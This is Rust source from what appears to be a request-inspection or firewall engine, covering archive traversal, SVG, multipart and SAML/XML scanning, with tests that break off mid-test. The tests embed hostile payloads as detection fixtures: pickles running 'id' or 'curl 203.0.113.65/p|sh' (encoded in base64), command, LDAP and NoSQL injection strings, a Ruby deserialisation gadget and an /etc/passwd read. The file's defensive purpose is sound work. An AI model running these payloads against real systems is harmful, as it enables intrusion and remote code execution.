/// document (`AT&TFORM`), whose metadata ExifTool once evaluated, binary as it is.
fn image_magic(content: &[u8]) -> bool {
    if content.starts_with(b"AT&TFORM") {
        return false;
    }
    const MAGIC: &[&[u8]] = &[
        b"\xff\xd8\xff",
        b"\x89PNG",
        b"GIF8",
        b"RIFF",
        b"BM",
        b"II*\0",
        b"MM\0*",
        b"\0\0\x01\0",
    ];
    content.is_empty()
        || MAGIC.iter().any(|m| content.starts_with(m))
        || content.get(4..8) == Some(b"ftyp")
        || binary_bytes(content)
}

/// Whether a tar or zip archive names a member, or a tar link target, that climbs out of the
/// folder it is unpacked into: a `..` segment, or an absolute path (`/`, `\\`, `C:`). A tar is
/// one by its declared type or its `ustar` magic; its header blocks are walked by their sizes
/// (octal or base-256), and a name is read from the header's name and prefix fields, a GNU
/// long-name record or a PAX `path=`. A zip is one by its local and central header
/// signatures wherever they stand (a self-extractor has a stub before them). At most 1,024
/// members of each kind are read.
fn archive_escapes(content: &[u8], declared: Option<&str>) -> bool {
    const MEMBERS: usize = 1024;
    let escapes = |name: &[u8]| {
        let name = &name[..memchr::memchr(0, name).unwrap_or(name.len())];
        name.starts_with(b"/")
            || name.starts_with(b"\\")
            || (name.len() > 2 && name[0].is_ascii_alphabetic() && name[1] == b':')
            || name
                .split(|c| *c == b'/' || *c == b'\\')
                .any(|s| s == b"..")
    };
    // Local headers: name length at 26, name at 30; central headers: length at 28, name at 46.
    let zip_name = |len_at: usize, name_at: usize| {
        let Some(&[lo, hi]) = content.get(len_at..len_at + 2) else {
            return false;
        };
        let len = usize::from(u16::from_le_bytes([lo, hi]));
        content.get(name_at..name_at + len).is_some_and(&escapes)
    };
    if memchr::memmem::find_iter(content, b"PK\x03\x04")
        .take(MEMBERS)
        .any(|at| zip_name(at + 26, at + 30))
        || memchr::memmem::find_iter(content, b"PK\x01\x02")
            .take(MEMBERS)
            .any(|at| zip_name(at + 28, at + 46))
    {
        return true;
    }
    let tar = declared.is_some_and(|t| t.ends_with("tar"))
        || content.get(257..262) == Some(b"ustar".as_slice());
    if !tar {
        return false;
    }
    let mut at = 0usize;
    for _ in 0..MEMBERS {
        let Some(header) = content.get(at..at.saturating_add(512).min(content.len())) else {
            break;
        };
        if header.first().is_none_or(|&c| c == 0) {
            break;
        }
        let field = |from: usize, to: usize| header.get(from..to.min(header.len())).unwrap_or(&[]);
        if escapes(field(0, 100)) || escapes(field(157, 257)) || escapes(field(345, 500)) {
            return true;
        }
        let size_field = field(124, 136);
        let size = if size_field.first().is_some_and(|b| b & 0x80 != 0) {
            // Base-256: the remaining bytes, big-endian.
            size_field[1..].iter().try_fold(0usize, |n, &b| {
                n.checked_mul(256)?.checked_add(usize::from(b))
            })
        } else {
            size_field
                .iter()
                .skip_while(|c| **c == b' ')
                .take_while(|c| (b'0'..=b'7').contains(c))
                .try_fold(0usize, |n, c| {
                    n.checked_mul(8)?.checked_add(usize::from(c - b'0'))
                })
        };
        let Some(size) = size else {
            break;
        };
        let data_at = at.saturating_add(512);
        let data = content.get(data_at..data_at.saturating_add(size).min(content.len()));
        let data = data.unwrap_or(&[]);
        match header.get(156) {
            // A GNU long name or long link target: the next member's, in this one's data.
            Some(b'L' | b'K') if escapes(data) => return true,
            // A PAX header: `NN path=…` and `NN linkpath=…` records.
            Some(b'x' | b'g')
                if data.split(|&b| b == b'\n').any(|record| {
                    let value = record
                        .iter()
                        .position(|&b| b == b' ')
                        .map_or(record, |i| &record[i + 1..]);
                    (value
                        .strip_prefix(b"path=")
                        .or_else(|| value.strip_prefix(b"linkpath=")))
                    .is_some_and(&escapes)
                }) =>
            {
                return true;
            }
            _ => {}
        }
        at = match size
            .div_ceil(512)
            .checked_mul(512)
            .and_then(|n| n.checked_add(data_at))
        {
            Some(next) => next,
            None => break,
        };
    }
    false
}

/// Whether an uploaded SVG only draws: UTF-8 without NUL or escape bytes (no other encoding
/// declared), every element one of [`DRAWING_ELEMENTS`] whatever its namespace prefix, no
/// comment, declaration or processing instruction but the XML declaration, no event handler,
/// `javascript:` or `data:` URL, `src`, `action` or `xml:base`, no entity or character
/// reference but the five XML predefines (`&lt;`), no CSS escape or import, and no link but
/// to a fragment of itself (`href="#id"`, `url(#grad)`). Such a file is read as an XML
/// document ([`xml`]), so its text and attribute
/// values meet every detector, rather than as text, where its `<svg>` tag alone is what the
/// XSS rules look for.
fn inert_svg(content: &[u8]) -> bool {
    let Ok(text) = std::str::from_utf8(content) else {
        return false;
    };
    if text.contains(['\0', '\x1b', '\\']) {
        return false;
    }
    let text = text.to_ascii_lowercase();
    let b = text.as_bytes();
    // Only the five entities XML predefines, which stand for a character and can form no
    // markup (`MTA -&gt; queue`); any other reference could spell a word the checks below read.
    let predefined = |i: usize| {
        ["lt;", "gt;", "amp;", "quot;", "apos;"]
            .iter()
            .any(|e| b[i + 1..].starts_with(e.as_bytes()))
    };
    if !memchr::memchr_iter(b'&', b).all(predefined) {
        return false;
    }
    if xml_encoding(b).is_some_and(|e| !matches!(e.trim_ascii(), b"utf-8" | b"us-ascii")) {
        return false;
    }
    for at in memchr::memchr_iter(b'<', b) {
        let rest = &b[at + 1..];
        if rest.starts_with(b"/") {
            continue;
        }
        if rest.starts_with(b"?xml")
            && rest.get(4).is_some_and(u8::is_ascii_whitespace)
            && at == text.len() - text.trim_start().len()
        {
            // The declaration, whose encoding was read above, must be closed: one that is not
            // is no document.
            if memchr::memmem::find(rest, b"?>").is_none() {
                return false;
            }
            continue;
        }
        let name_len = rest
            .iter()
            .position(|c| !(c.is_ascii_alphanumeric() || b":_-.".contains(c)))
            .unwrap_or(rest.len());
        let name = &text[at + 1..at + 1 + name_len];
        let local = name.rsplit(':').next().unwrap_or(name);
        if !DRAWING_ELEMENTS.contains(&local) {
            return false;
        }
    }
    const ACTIVE: &[&str] = &[
        "javascript:",
        "vbscript:",
        "data:",
        "@import",
        "xml:base",
        "action",
        "src",
    ];
    if ACTIVE.iter().any(|a| text.contains(a)) {
        return false;
    }
    // Event handlers: `on` and letters starting an attribute name (after a space, `/`, a quote
    // or a namespace prefix), then `=`.
    let handler = memchr::memmem::find_iter(b, b"on").any(|i| {
        let starts_name = i
            .checked_sub(1)
            .is_some_and(|p| !(b[p].is_ascii_alphanumeric() || b[p] == b'-' || b[p] == b'_'));
        let after = &b[i + 2..];
        let letters = after.iter().take_while(|c| c.is_ascii_alphabetic()).count();
        starts_name
            && letters > 0
            && after[letters..]
                .iter()
                .find(|c| !c.is_ascii_whitespace())
                .is_some_and(|&c| c == b'=')
    });
    // Links (`href`, `xlink:href`, CSS `url(...)`): each must point at a fragment.
    let outside = |word: &[u8]| {
        memchr::memmem::find_iter(b, word).any(|i| {
            let value = b[i + word.len()..]
                .iter()
                .copied()
                .skip_while(|c| c.is_ascii_whitespace() || *c == b'=')
                .skip_while(|c| *c == b'"' || *c == b'\'');
            !value.take(1).eq([b'#'])
        })
    };
    !handler && !outside(b"href") && !outside(b"url(")
}

/// The SVG elements that draw, group, describe or define paint, lower case.
const DRAWING_ELEMENTS: &[&str] = &[
    "circle",
    "clippath",
    "defs",
    "desc",
    "ellipse",
    "g",
    "line",
    "lineargradient",
    "marker",
    "mask",
    "metadata",
    "path",
    "pattern",
    "polygon",
    "polyline",
    "radialgradient",
    "rect",
    "stop",
    "svg",
    "symbol",
    "text",
    "textpath",
    "title",
    "tspan",
    "use",
];

/// Parameters of a Content-Disposition value (`form-data; name="a"; filename="b.txt"`), bounded.
fn disposition_params(v: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut out = Vec::new();
    let mut i = 0;
    while i < v.len() && out.len() < 8 {
        // Skip to the next `;`.
        match memchr::memchr(b';', &v[i..]) {
            Some(off) => i += off + 1,
            None => break,
        }
        while i < v.len() && v[i].is_ascii_whitespace() {
            i += 1;
        }
        let key_start = i;
        while i < v.len() && v[i] != b'=' && v[i] != b';' {
            i += 1;
        }
        let key = String::from_utf8_lossy(&v[key_start..i])
            .trim()
            .to_ascii_lowercase();
        if v.get(i) != Some(&b'=') {
            continue;
        }
        i += 1;
        let mut value = Vec::new();
        if v.get(i) == Some(&b'"') {
            i += 1;
            while i < v.len() && v[i] != b'"' {
                if v[i] == b'\\' && i + 1 < v.len() {
                    i += 1;
                }
                value.push(v[i]);
                i += 1;
            }
            i += 1;
            // Bytes between the closing quote and the next `;` (`filename=""><svg ...>.png"`):
            // parsers disagree on whether they belong to the value, so it is inspected with
            // them. Spaces alone are not such bytes.
            let tail_end = memchr::memchr(b';', &v[i.min(v.len())..]).map_or(v.len(), |o| i + o);
            if let Some(tail) = v.get(i..tail_end)
                && !tail.trim_ascii().is_empty()
            {
                value.extend_from_slice(tail);
            }
            i = tail_end;
        } else {
            while i < v.len() && v[i] != b';' {
                value.push(v[i]);
                i += 1;
            }
        }
        out.push((key, value));
    }
    out
}

/// A tolerant, bounded XML scanner: element text and attribute values become inputs labelled
/// `xml:/root/elem` and `xml:/root/elem@attr`. Not a validating parser; markup it does not
/// understand is skipped.
/// Where a SAML message says it goes and whom it is for (local names): the identity
/// provider and the service provider compare them with their own settings and send the
/// browser there; neither fetches them, so an address inside a network (a test set-up's
/// `https://localhost/saml/acs`) is no request forgery. Not read in an encoded XML message.
const SAML_ENDPOINTS: &[&str] = &[
    "AssertionConsumerServiceURL",
    "Audience",
    "Destination",
    "Issuer",
    "Recipient",
];

/// Whether the last name of `path` (an element path, or `element@attribute`), without its
/// namespace prefix, is one of `names`.
fn named_in(path: &str, names: &[&str]) -> bool {
    let last = path.rsplit(['/', '@']).next().unwrap_or(path);
    let local = last.rsplit(':').next().unwrap_or(last);
    names.contains(&local)
}

/// Reads an XML document under `prefix`: text and CDATA as values under `PREFIX:/a/b`,
/// attributes under `PREFIX:/a/b@name`, markup declarations under `PREFIX:!declaration`.
/// In a SAML message (`saml`), the values of [`SAML_ENDPOINTS`] are not read, and what
/// signature wrapping leaves is rule 1058: a second `Assertion` (the signed one moved aside,
/// a forged one where the service provider looks), or a comment inside a value
/// (`admin@corp.example<!---->.evil.example`, which some libraries read up to the comment).
fn xml(c: &mut Collector<'_>, body: &[u8], prefix: &str, saml: bool) {
    let unread = if saml { SAML_ENDPOINTS } else { &[] };
    let (mut assertions, mut responses) = (0usize, 0usize);
    // Since the last tag: whether a value's text or CDATA was read, and whether a comment
    // came after it (a value split by a comment, whatever follows it).
    let (mut valued, mut commented) = (false, false);
    let split = |c: &mut Collector<'_>, stack: &[String], valued: bool, commented: bool| {
        if saml && valued && commented {
            c.anomaly(
                rules::PROTO_SAML_WRAPPING,
                &format!("{prefix}:/{}", stack.join("/")),
                "comment inside a value",
            );
        }
    };
    if let Some(encoding) = xml_encoding(body)
        && hidden_encoding(encoding)
    {
        c.anomaly(
            rules::PROTO_CHARSET,
            &format!("{prefix}:!encoding"),
            &String::from_utf8_lossy(encoding),
        );
    }
    let mut stack: Vec<String> = Vec::new();
    let mut i = 0;
    let mut text_start = 0;
    while i < body.len() && !c.full() {
        if body[i] != b'<' {
            i += 1;
            continue;
        }
        let text = body[text_start..i].trim_ascii();
        if !text.is_empty() {
            split(c, &stack, valued, commented);
            valued = true;
        }
        if !text.is_empty() && !stack.last().is_some_and(|e| named_in(e, unread)) {
            c.push(
                format!("{prefix}:/{}", stack.join("/")),
                Kind::Value,
                text.to_vec(),
                false,
                false,
            );
        }
        // Comments, CDATA, declarations, processing instructions.
        let rest = &body[i..];
        if rest.starts_with(b"<![CDATA[") {
            let end = memchr::memmem::find(&rest[9..], b"]]>").map_or(body.len(), |e| i + 9 + e);
            let data = &body[(i + 9).min(end)..end];
            split(c, &stack, valued, commented);
            valued = true;
            c.push(
                format!("{prefix}:/{}", stack.join("/")),
                Kind::Value,
                data.to_vec(),
                false,
                false,
            );
            i = (end + 3).min(body.len());
            text_start = i;
            continue;
        }
        if rest.starts_with(b"<!--") || rest.starts_with(b"<?") || rest.starts_with(b"<!") {
            // A processing instruction ends at `?>` (a `>` inside its quoted values does not
            // end it), or at the first `>` when it does not close so within 4 KiB.
            let pi_end = rest
                .starts_with(b"<?")
                .then(|| memchr::memmem::find(&rest[2..rest.len().min(4096)], b"?>"))
                .flatten();
            let close: &[u8] = if rest.starts_with(b"<!--") {
                b"-->"
            } else {
                b">"
            };
            let end = match pi_end {
                Some(e) => i + 2 + e + 2,
                None => memchr::memmem::find(&rest[2..], close)
                    .map_or(body.len(), |e| i + 2 + e + close.len()),
            };
            let inner = &body[i..end.min(body.len())];
            commented |= rest.starts_with(b"<!--");
            // A processing instruction's pseudo-attributes (`<?xml-stylesheet href="…"?>`,
            // which an XSLT processor fetches and runs), under `xml:/?target@name`; the
            // document's own `<?xml …?>` declaration is not one.
            if let Some(pi) = rest.strip_prefix(b"<?") {
                let pi = &pi[..pi.len().min(end - i - 2)];
                let pi = pi.strip_suffix(b"?>").unwrap_or(pi);
                let target_end = pi
                    .iter()
                    .position(u8::is_ascii_whitespace)
                    .unwrap_or(pi.len());
                let target = &pi[..target_end];
                if !target.is_empty() && !target.eq_ignore_ascii_case(b"xml") {
                    xml_attributes(
                        c,
                        &pi[target_end..],
                        prefix,
                        &format!("?{}", label_part(target)),
                        unread,
                    );
                }
            }
            if rest.starts_with(b"<!") && !rest.starts_with(b"<!--") {
                // DOCTYPE / ENTITY declarations can carry XXE; inspect them as a value.
                c.push(
                    format!("{prefix}:!declaration"),
                    Kind::Declaration,
                    inner.to_vec(),
                    false,
                    false,
                );
            }
            i = end.min(body.len());
            text_start = i;
            continue;
        }
        let end = memchr::memchr(b'>', rest).map_or(body.len(), |e| i + e);
        let tag = &body[i + 1..end];
        i = (end + 1).min(body.len());
        text_start = i;
        (valued, commented) = (false, false);
        if let Some(closing) = tag.strip_prefix(b"/") {
            let name = label_part(closing.trim_ascii());
            if let Some(pos) = stack.iter().rposition(|n| *n == name) {
                stack.truncate(pos);
            }
            continue;
        }
        let self_closing = tag.ends_with(b"/");
        let tag = tag.strip_suffix(b"/").unwrap_or(tag);
        let name_end = tag
            .iter()
            .position(|b| b.is_ascii_whitespace())
            .unwrap_or(tag.len());
        let name = label_part(&tag[..name_end]);
        // The assertion moved aside (encrypted or not), or the whole response wrapped.
        let counted = match name.rsplit(':').next() {
            Some("Assertion" | "EncryptedAssertion") => Some(&mut assertions),
            Some("Response") => Some(&mut responses),
            _ => None,
        };
        if saml && let Some(n) = counted {
            *n += 1;
            if *n == 2 {
                c.anomaly(
                    rules::PROTO_SAML_WRAPPING,
                    &format!("{prefix}:/{}", stack.join("/")),
                    "second assertion or response",
                );
            }
        }
        // Parsers that map XML onto objects (xml2js) make element names keys: `__proto__`,
        // or `prototype` inside `constructor`, pollutes the prototype of every object.
        if name == "__proto__"
            || (name == "prototype" && stack.last().is_some_and(|p| p == "constructor"))
        {
            c.anomaly(
                rules::NODE_PROTOTYPE,
                &format!("{prefix}:/{}/{name}", stack.join("/")),
                &name,
            );
        }
        let here = if stack.is_empty() {
            name.clone()
        } else {
            format!("{}/{}", stack.join("/"), name)
        };
        xml_attributes(c, &tag[name_end..], prefix, &here, unread);
        if !self_closing && stack.len() < c.limits.max_json_depth {
            stack.push(name);
        }
    }
}

/// An attribute name of the form of a DOM event handler: `on` and three letters or more
/// (`onerror`, `onLoad`, `onpointerenter`).
fn event_handler(name: &str) -> bool {
    name.get(..2).is_some_and(|p| p.eq_ignore_ascii_case("on"))
        && name.len() >= 5
        && name[2..].bytes().all(|b| b.is_ascii_alphabetic())
}

/// Elements of HTML and SVG (and MathML's root), by the last name of an XML element path
/// (`Observation/text/div/img`), without a namespace prefix, sorted.
const HTML_ELEMENTS: &[&str] = &[
    "a",
    "abbr",
    "address",
    "animate",
    "animatemotion",
    "animatetransform",
    "area",
    "article",
    "aside",
    "audio",
    "b",
    "base",
    "bdi",
    "bdo",
    "blockquote",
    "body",
    "br",
    "button",
    "canvas",
    "caption",
    "circle",
    "cite",
    "clippath",
    "code",
    "col",
    "colgroup",
    "data",
    "datalist",
    "dd",
    "defs",
    "del",
    "details",
    "dfn",
    "dialog",
    "div",
    "dl",
    "dt",
    "ellipse",
    "em",
    "embed",
    "feimage",
    "fieldset",
    "figcaption",
    "figure",
    "filter",
    "font",
    "footer",
    "foreignobject",
    "form",
    "frame",
    "frameset",
    "g",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "head",
    "header",
    "hr",
    "html",
    "i",
    "iframe",
    "image",
    "img",
    "input",
    "ins",
    "kbd",
    "keygen",
    "label",
    "legend",
    "li",
    "line",
    "lineargradient",
    "link",
    "main",
    "map",
    "mark",
    "marker",
    "marquee",
    "mask",
    "math",
    "menu",
    "meta",
    "meter",
    "nav",
    "noscript",
    "object",
    "ol",
    "optgroup",
    "option",
    "output",
    "p",
    "param",
    "path",
    "pattern",
    "picture",
    "polygon",
    "polyline",
    "pre",
    "progress",
    "q",
    "radialgradient",
    "rect",
    "rp",
    "rt",
    "ruby",
    "s",
    "samp",
    "script",
    "section",
    "select",
    "set",
    "slot",
    "small",
    "source",
    "span",
    "stop",
    "strong",
    "style",
    "sub",
    "summary",
    "sup",
    "svg",
    "switch",
    "symbol",
    "table",
    "tbody",
    "td",
    "template",
    "text",
    "textarea",
    "textpath",
    "tfoot",
    "th",
    "thead",
    "time",
    "title",
    "tr",
    "track",
    "tspan",
    "u",
    "ul",
    "use",
    "var",
    "video",
    "view",
    "wbr",
];

/// Whether the last element of an XML element path is one of [`HTML_ELEMENTS`].
fn html_element(path: &str) -> bool {
    let last = path.rsplit('/').next().unwrap_or(path);
    let local = last.rsplit(':').next().unwrap_or(last).to_ascii_lowercase();
    HTML_ELEMENTS.binary_search(&local.as_str()).is_ok()
}

fn xml_attributes(
    c: &mut Collector<'_>,
    mut a: &[u8],
    prefix: &str,
    element: &str,
    unread: &[&str],
) {
    for _ in 0..32 {
        a = a.trim_ascii_start();
        let Some(eq) = memchr::memchr(b'=', a) else {
            return;
        };
        let name = label_part(a[..eq].trim_ascii());
        let rest = a[eq + 1..].trim_ascii_start();
        let Some(&quote) = rest.first() else { return };
        if quote != b'"' && quote != b'\'' {
            return;
        }
        let Some(close) = memchr::memchr(quote, &rest[1..]) else {
            return;
        };
        let value = &rest[1..1 + close];
        // An event handler on an HTML or SVG element (the XHTML narrative of a FHIR resource,
        // markup in a feed or a document format): whatever renders the element runs it.
        let label = format!("{prefix}:/{element}@{name}");
        if event_handler(&name) && html_element(element) && !value.trim_ascii().is_empty() {
            c.anomaly(rules::XSS_EVENT_HANDLER, &label, &name);
        }
        c.push(
            label.clone(),
            Kind::Name,
            name.as_bytes().to_vec(),
            false,
            false,
        );
        if !named_in(&name, unread) {
            c.push(label, Kind::Value, value.to_vec(), false, false);
        }
        a = &rest[close + 2..];
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn labels(x: &Extracted, kind: Kind) -> Vec<(String, String)> {
        x.inputs
            .iter()
            .filter(|i| i.kind == kind)
            .map(|i| {
                (
                    i.label.clone(),
                    String::from_utf8_lossy(&i.value).into_owned(),
                )
            })
            .collect()
    }

    #[test]
    fn json_under_an_xml_type_is_read_as_json() {
        let values = |ct: &str, body: &str| {
            let req = RequestView::new("POST", b"/service/soap")
                .header("Content-Type", ct)
                .body(body.as_bytes());
            labels(&extract(&req, &Limits::default(), None), Kind::Value)
        };
        let json = r#"{"Body": {"SearchGalRequest": {"name": "a*"}}}"#;
        assert_eq!(
            values("application/soap+xml", json),
            vec![("json:/Body/SearchGalRequest/name".into(), "a*".into())]
        );
        // XML, and text that is neither, are read as XML still.
        assert_eq!(
            values("text/xml", "<a><b>x</b></a>"),
            vec![("xml:/a/b".into(), "x".into())]
        );
        assert_eq!(
            values("application/xml", "{ not json <b>y</b>"),
            vec![
                ("xml:/".into(), "{ not json".into()),
                ("xml:/b".into(), "y".into())
            ]
        );
    }

    #[test]
    fn vendor_types_are_read_when_their_body_is_text() {
        let bodies = |ct: &str, body: &[u8]| {
            let req = RequestView::new("POST", b"/api/v2/query")
                .header("Content-Type", ct)
                .body(body);
            labels(&extract(&req, &Limits::default(), None), Kind::Body)
        };
        let flux = b"csv.from(file: \"/etc/passwd\")";
        assert_eq!(
            bodies("application/vnd.flux", flux),
            vec![("body".into(), String::from_utf8_lossy(flux).into_owned())]
        );
        assert!(bodies("application/vnd.ms-excel", b"\xd0\xcf\x11\xe0\0\0").is_empty());
        // Outside `application/` and `text/` too (HL7's type, an image that is a script).
        let hl7 = b"MSH|^~\\&|EPIC|LAB|||20240514||ADT^A04|1|P|2.5.1\rPID|1||x||<script>x</script>";
        assert_eq!(bodies("x-application/hl7-v2+er7", hl7).len(), 1);
        assert_eq!(
            bodies("x-application/hl7-v2+er7", b"PID|1||x||M\xdcLLER^ANNA").len(),
            1
        );
        assert_eq!(
            bodies("image/png", b"push graphic-context\nviewbox 0 0 640 480").len(),
            1
        );
        assert!(bodies("image/png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR").is_empty());
        assert!(bodies("application/octet-stream", b"plain text").is_empty());
    }

    #[test]
    fn java_serialised_bodies_are_flagged_whatever_their_type() {
        let mut body = b"\xac\xed\x00\x05sr\x00\x17java.util.PriorityQueue".to_vec();
        body.extend_from_slice(&[0x94, 0xda, 0x30, 0xb4]);
        for ct in [
            "application/octet-stream",
            "application/x-java-serialized-object",
        ] {
            assert_eq!(
                anomaly_labels(ct, &body, rules::JAVA_DESERIALISATION),
                vec!["body".to_owned()],
                "{ct}"
            );
        }
    }

    #[test]
    fn basic_credentials_give_their_user_but_not_their_password() {
        let user = |auth: &str| {
            let req = RequestView::new("GET", b"/dav/").header("Authorization", auth);
            labels(&extract(&req, &Limits::default(), None), Kind::Value)
        };
        // `*)(cn=*):anything` and `alice:s3cr3t`.
        assert_eq!(
            user("Basic KikoY249Kjphbnl0aGluZw=="),
            vec![("header:authorization:user".into(), "*)(cn=*".into())]
        );
        // Without its padding, as servers accept it.
        assert_eq!(
            user("Basic KikoY249Kjphbnl0aGluZw"),
            vec![("header:authorization:user".into(), "*)(cn=*".into())]
        );
        assert_eq!(
            user("basic YWxpY2U6czNjcjN0"),
            vec![("header:authorization:user".into(), "alice".into())]
        );
        for other in ["Basic !!", "Basic OnB3", "Bearer YWxpY2U6czNjcjN0"] {
            assert!(user(other).is_empty(), "{other}");
        }
    }

    #[test]
    fn path_segments_with_more_than_name_characters_are_values() {
        let segments = |target: &[u8]| {
            let x = extract(&RequestView::new("GET", target), &Limits::default(), None);
            labels(&x, Kind::Value)
        };
        assert_eq!(
            segments(b"/api/ping/127.0.0.1%3Bid/result"),
            vec![("path:segment".into(), "127.0.0.1;id".into())]
        );
        assert_eq!(
            segments(b"/staff/%2A%29%28mail%3D%2A/profile"),
            vec![("path:segment".into(), "*)(mail=*".into())]
        );
        for plain in [
            &b"/api/v1/items"[..],
            b"/maps/@40.7,-74.0,12z",
            b"/v1.0/me/workbook/worksheets('Q1%20Budget')/range(address='A1:C3')",
            b"/odata/Orders(OrderID=10248,ProductID=11)/$value",
            b"/wiki/Stra%C3%9Fe",
        ] {
            assert!(
                segments(plain).is_empty(),
                "{}",
                String::from_utf8_lossy(plain)
            );
        }
        assert_eq!(
            segments(b"/proxy/http:/127.0.0.1:8080/manager/html"),
            vec![(
                "path:segment".into(),
                "http:/127.0.0.1:8080/manager/html".into()
            )]
        );
        // A JSON document in a segment is read as one.
        let json = extract(
            &RequestView::new("GET", b"/api/users/%7B%22$ne%22:null%7D/profile"),
            &Limits::default(),
            None,
        );
        assert_eq!(
            labels(&json, Kind::Name),
            vec![("path:segment:/$ne".into(), "$ne".into())]
        );
        // Plain and empty segments before it do not use up the segments inspected.
        let mut padded = b"/.".repeat(40);
        padded.extend_from_slice(b"/x:/y:/z:/w:/x/proxy/http:/127.0.0.1/a;id");
        assert_eq!(
            segments(&padded),
            vec![
                ("path:segment".into(), "http:/127.0.0.1/a;id".into()),
                ("path:segment".into(), "a;id".into())
            ]
        );
        // A quote that closes early is no OData key.
        assert_eq!(segments(b"/People('x'%20or%20'a'='a')").len(), 1);
    }

    #[test]
    fn json_parameters_are_read_as_documents() {
        let req = RequestView::new(
            "GET",
            b"/s?where=%7B%22score%22%3A%7B%22%24gt%22%3A1000%7D%7D&q=%7Bnot%20json",
        );
        let x = extract(&req, &Limits::default(), None);
        assert!(labels(&x, Kind::Name).contains(&("query:where:/score/$gt".into(), "$gt".into())));
        assert!(!x.inputs.iter().any(|i| i.label.starts_with("query:q:/")));
    }

    #[test]
    fn extracts_query_names_and_values() {
        let req = RequestView::new("GET", b"/a%20b?id=1&q=a+b%27&flag&&x=");
        let x = extract(&req, &Limits::default(), None);
        assert_eq!(labels(&x, Kind::Path), vec![("path".into(), "/a b".into())]);
        let vals = labels(&x, Kind::Value);
        assert!(vals.contains(&("query:id".into(), "1".into())));
        assert!(vals.contains(&("query:q".into(), "a b'".into())));
        assert!(labels(&x, Kind::Name).contains(&("query:flag".into(), "flag".into())));
        assert_eq!(x.arg_count, 4);
    }

    #[test]
    fn extracts_json_keys_and_strings() {
        let body = br#"{"user":{"name":"O'Brien","tags":["a",1,true]},"n":5}"#;
        let req = RequestView::new("POST", b"/")
            .header("Content-Type", "application/json")
            .body(body);
        let x = extract(&req, &Limits::default(), None);
        let vals = labels(&x, Kind::Value);
        assert!(vals.contains(&("json:/user/name".into(), "O'Brien".into())));
        assert!(vals.contains(&("json:/user/tags/0".into(), "a".into())));
        assert!(labels(&x, Kind::Name).contains(&("json:/user".into(), "user".into())));
        assert!(x.anomalies.is_empty(), "{:?}", x.anomalies);
    }

    /// The labels of the anomalies of `rule` in a POST of `body` as `content_type`.
    fn anomaly_labels(content_type: &str, body: &[u8], rule: u32) -> Vec<String> {
        let req = RequestView::new("POST", b"/")
            .header("Content-Type", content_type)
            .body(body);
        extract(&req, &Limits::default(), None)
            .anomalies
            .iter()
            .filter(|a| a.rule == rule)
            .map(|a| a.label.clone())
            .collect()
    }

    #[test]
    fn pickles_that_import_a_command_runner() {
        let runs = |body: &[u8]| {
            !anomaly_labels("application/octet-stream", body, rules::RCE_PICKLE).is_empty()
        };
        // As CPython writes them: protocol 4, 2 and 0.
        assert!(runs(
            b"\x80\x04\x95\x1d\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."
        ));
        assert!(runs(
            b"\x80\x02ccommands\ncheck_output\nq\x00]q\x01X\x02\0\0\0idq\x02a\x85q\x03Rq\x04."
        ));
        assert!(runs(b"cbuiltins\nexec\n(Vimport os\ntR."));
        // Data only, though it names a function.
        assert!(!runs(
            b"\x80\x04\x95\x1e\0\0\0\0\0\0\0}\x94(\x8c\x01a\x94]\x94(K\x01K\x02e\x8c\x01b\x94\x8c\x06system\x94u."
        ));
        assert!(!runs(b"cos\nsystems\n"));
        // Sent as base64 text, wrapped or URL-safe; other base64 is not one.
        assert!(runs(
            b"Y29zCnN5c3RlbQooUydjdXJsIDIwMy4wLjExMy42NS9wfHNoJwp0Ui4="
        ));
        assert!(runs(
            b"Y29zCnN5c3Rl\nbQooUydjdXJsIDIwMy4wLjExMy42NS9wfHNoJwp0Ui4=\n"
        ));
        assert!(runs(
            b"gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg"
        ));
        assert!(!runs(b"aGVsbG8gd29ybGQsIHRoaXMgaXMgdGV4dA=="));
        // In an upload too.
        let upload = b"--b\r\nContent-Disposition: form-data; name=\"model\"; filename=\"m.pkl\"\r\nContent-Type: application/octet-stream\r\n\r\ncposix\nsystem\n(Vid\ntR.\r\n--b--\r\n";
        assert_eq!(
            anomaly_labels("multipart/form-data; boundary=b", upload, rules::RCE_PICKLE),
            ["file-content:model"]
        );
    }

    #[test]
    fn class_hints_of_python_and_ruby_loaders() {
        let labels = |body: &str, rule| anomaly_labels("application/json", body.as_bytes(), rule);
        assert_eq!(
            labels(
                r#"{"job":{"py/reduce":[{"py/function":"subprocess.check_output"},{"py/tuple":[["id"]]}]}}"#,
                rules::RCE_PICKLE
            ),
            ["json:/job/py/reduce/0/py/function"]
        );
        assert!(labels(r#"{"py/object":"shop.models.Cart"}"#, rules::RCE_PICKLE).is_empty());
        assert_eq!(
            labels(
                r#"{"^o":"Gem::Requirement","requirements":[{"^o":"Net::WriteAdapter"}]}"#,
                rules::RCE_RUBY
            ),
            ["json:/^o", "json:/requirements/0/^o"]
        );
        assert!(labels(r#"{"^o":"Order","id":1}"#, rules::RCE_RUBY).is_empty());
    }

    #[test]
    fn repeated_json_keys_are_anomalies() {
        let dup = |body: &str| {
            anomaly_labels(
                "application/json",
                body.as_bytes(),
                rules::PROTO_JSON_DUPLICATE_KEY,
            )
        };
        assert_eq!(dup(r#"{"role":"viewer","role":"owner"}"#), ["json:/role"]);
        // Escapes are read: `\u0061` is `a`.
        assert_eq!(dup(r#"{"x":{"a":1,"\u0061":2}}"#), ["json:/x/a"]);
        // Past the small list, and keys whose labels would be cut to the same text.
        let many: Vec<String> = (0..40).map(|i| format!("\"k{i}\":{i}")).collect();
        assert_eq!(
            dup(&format!("{{{},\"k3\":0}}", many.join(","))),
            ["json:/k3"]
        );
        let long = "a".repeat(70);
        assert!(dup(&format!(r#"{{"{long}b":1,"{long}c":2}}"#)).is_empty());
        // The same key in sibling objects is no repeat.
        assert!(dup(r#"[{"id":1},{"id":2}]"#).is_empty());
    }

    #[test]
    fn xml_in_encodings_that_hide_markup_is_an_anomaly() {
        let charset =
            |body: &str| anomaly_labels("text/xml", body.as_bytes(), rules::PROTO_CHARSET);
        assert_eq!(
            charset("<?xml version=\"1.0\" encoding=\"UTF-7\"?>\n+ADw-score+AD4-"),
            ["xml:!encoding"]
        );
        assert_eq!(
